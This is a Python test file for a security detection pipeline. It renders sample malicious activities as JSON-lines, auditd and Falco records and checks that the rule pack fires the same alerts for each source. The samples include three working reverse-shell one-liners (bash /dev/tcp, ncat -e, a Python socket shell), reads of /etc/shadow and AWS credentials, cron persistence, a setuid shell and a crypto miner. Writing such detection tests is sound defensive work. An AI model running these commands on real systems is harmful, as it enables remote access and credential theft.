"""The default pack raises the same alerts for one activity whichever source saw it:
the collector's JSON lines (the schema's own vocabulary), Linux auditd records, or
Falco's JSON output. Each activity is rendered in each source's own format, as that
tool writes it (auditd: SYSCALL/EXECVE/PATH/SOCKADDR/PROCTITLE records with x86_64
syscall numbers; Falco: ``evt.type`` syscall names and ``fd.name``), and not from the
simulator."""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass, field

import orjson
import pytest

from pipeline.collect.sources import ParseError
from pipeline.collect.sources.auditd import AuditdParser
from pipeline.collect.sources.falco import FalcoParser
from pipeline.collect.sources.jsonl import JsonLinesParser
from pipeline.rules.engine import DetectionEngine
from pipeline.rules.language import load_rules
from pipeline.schema.event import Event

PACK = load_rules([])
SANDBOX = "sb-src-1"
TS = 1_764_324_000


@dataclass(frozen=True)
class Activity:
    syscall: str  # execve, openat, connect
    argv: tuple[str, ...]
    exe: str
    path: str = ""
    write: bool = False
    peer: tuple[str, int] | None = None
    pid: int = 4242
    children: tuple[Activity, ...] = field(default=())

    @property
    def comm(self) -> str:
        return self.exe.rsplit("/", 1)[-1]


def exec_(*argv: str, exe: str) -> Activity:
    return Activity("execve", argv, exe)


ACTIVITIES = {
    "reverse shell, bash /dev/tcp": exec_(
        "bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", exe="/usr/bin/bash"
    ),
    "reverse shell, ncat -e": exec_(
        "ncat", "198.51.100.7", "4444", "-e", "/bin/sh", exe="/usr/bin/ncat"
    ),
    "reverse shell, python one-liner": exec_(
        "python3",
        "-c",
        "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',4444));"
        "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
        exe="/usr/bin/python3.12",
    ),
    "shadow read": Activity("openat", ("cat", "/etc/shadow"), "/usr/bin/cat", "/etc/shadow"),
    "cloud credentials read": Activity(
        "openat", ("python3", "steal.py"), "/usr/bin/python3.12", "/root/.aws/credentials"
    ),
    "cron persistence": Activity(
        "openat",
        ("sh", "-c", "echo x > /etc/cron.d/upd"),
        "/usr/bin/dash",
        "/etc/cron.d/upd",
        write=True,
    ),
    "setuid shell": exec_("chmod", "u+s", "/tmp/rootsh", exe="/usr/bin/chmod"),
    "miner": exec_(
        "xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet", exe="/tmp/xmrig"
    ),
}


def as_jsonl(activity: Activity) -> list[bytes]:
    if activity.syscall == "execve":
        category, action, obj = "process", "exec", activity.exe
    elif activity.syscall == "connect":
        assert activity.peer is not None
        category, action, obj = "network", "connect", f"{activity.peer[0]}:{activity.peer[1]}"
    else:
        category, action, obj = "file", "write" if activity.write else "read", activity.path
    record = {
        "ts": TS * 1000,
        "category": category,
        "action": action,
        "object": obj,
        "actor": {
            "user": "runner",
            "uid": 1000,
            "pid": activity.pid,
            "ppid": 100,
            "process": activity.comm,
            "cmdline": " ".join(activity.argv),
        },
    }
    return [orjson.dumps(record)]


def _arg(value: str) -> str:
    """How auditd writes a string field: quoted, or hex when it holds a space or quote."""
    if all(33 <= ord(c) < 127 and c != '"' for c in value):
        return f'"{value}"'
    return value.encode().hex().upper()


SYSCALL_NUMBERS = {"execve": 59, "openat": 257, "connect": 42}


def as_auditd(activity: Activity, serial: int = 7001) -> list[bytes]:
    head = f"msg=audit({TS}.250:{serial}):"
    flags = "241" if activity.write else "0"
    lines = [
        f"type=SYSCALL {head} arch=c000003e syscall={SYSCALL_NUMBERS[activity.syscall]} "
        f"success=yes exit=3 a0=ffffff9c a1=7ffd8e3c1f20 a2={flags} a3=1b6 items=1 "
        f"ppid=100 pid={activity.pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 "
        f'fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="{activity.comm}" '
        f'exe="{activity.exe}" subj=unconfined key=(null)\x1dAUID="runner" UID="runner"'
    ]
    if activity.syscall == "execve":
        args = " ".join(f"a{i}={_arg(a)}" for i, a in enumerate(activity.argv))
        lines.append(f"type=EXECVE {head} argc={len(activity.argv)} {args}")
    lines.append(f'type=CWD {head} cwd="/workspace"')
    if activity.peer is not None:
        ip, port = activity.peer
        saddr = b"\x02\x00" + port.to_bytes(2, "big") + ipaddress.IPv4Address(ip).packed
        lines.append(f"type=SOCKADDR {head} saddr={(saddr + bytes(8)).hex().upper()}")
    else:
        name = activity.exe if activity.syscall == "execve" else activity.path
        kind = "CREATE" if activity.write else "NORMAL"
        lines.append(f'type=PATH {head} item=0 name="{name}" inode=1 dev=08:01 nametype={kind}')
    title = "\0".join(activity.argv).encode().hex().upper()
    lines.append(f"type=PROCTITLE {head} proctitle={title}")
    lines.append(f"type=EOE {head}")
    return [line.encode() for line in lines]


def as_falco(activity: Activity) -> list[bytes]:
    fields: dict[str, object] = {
        "container.id": SANDBOX,
        "evt.time": TS * 10**9 + 250_000_000,
        "evt.type": activity.syscall,
        "proc.cmdline": " ".join(activity.argv),
        "proc.exepath": activity.exe,
        "proc.name": activity.comm,
        "proc.pid": activity.pid,
        "proc.ppid": 100,
        "user.name": "runner",
        "user.uid": 1000,
    }
    if activity.syscall == "openat":
        fields["fd.name"] = activity.path
        fields["evt.is_open_write"] = activity.write
    if activity.peer is not None:
        fields["fd.name"] = f"172.17.0.5:43211->{activity.peer[0]}:{activity.peer[1]}"
    alert = {
        "output": f"{activity.syscall} by {activity.comm}",
        "output_fields": fields,
        "priority": "Notice",
        "rule": "Audit all (test ruleset)",
        "source": "syscall",
        "tags": [],
        "time": "2025-11-28T10:00:00.250000000Z",
    }
    return [orjson.dumps(alert)]


def parsed(parser: AuditdParser | FalcoParser | JsonLinesParser, lines: list[bytes]) -> list[Event]:
    events: list[Event] = []
    for line in lines:
        try:
            events += parser.feed(line)
        except ParseError as exc:  # pragma: no cover - the message names the fault
            raise AssertionError(f"{parser.name}: {exc}: {line[:200]!r}") from None
    return events + parser.finish()


def fired(events: list[Event]) -> set[str]:
    return {alert.rule_id for alert in DetectionEngine(PACK).process(events)}


@pytest.mark.parametrize("name", sorted(ACTIVITIES))
def test_the_pack_raises_the_same_alerts_whichever_source_saw_the_activity(name: str) -> None:
    activity = ACTIVITIES[name]
    jsonl = JsonLinesParser(tenant="acme", sandbox_id=SANDBOX)
    auditd = AuditdParser(tenant="acme", sandbox_id=SANDBOX)
    falco = FalcoParser(tenant="acme", sandbox_id=None)
    by_source = {
        "jsonl": fired(parsed(jsonl, as_jsonl(activity))),
        "auditd": fired(parsed(auditd, as_auditd(activity))),
        "falco": fired(parsed(falco, as_falco(activity))),
    }
    assert by_source["jsonl"], f"{name}: the pack raises nothing even from JSON lines"
    assert by_source["auditd"] == by_source["jsonl"], by_source
    assert by_source["falco"] == by_source["jsonl"], by_source


def test_a_falco_connect_names_the_peer_like_auditd() -> None:
    activity = Activity("connect", ("bash", "-i"), "/usr/bin/bash", peer=("198.51.100.7", 4444))
    seen = [
        parsed(AuditdParser(tenant="acme", sandbox_id=SANDBOX), as_auditd(activity))[0],
        parsed(FalcoParser(tenant="acme", sandbox_id=None), as_falco(activity))[0],
    ]
    assert {(e["category"], e["action"], e["object"]) for e in seen} == {
        ("network", "connect", "198.51.100.7:4444")
    }
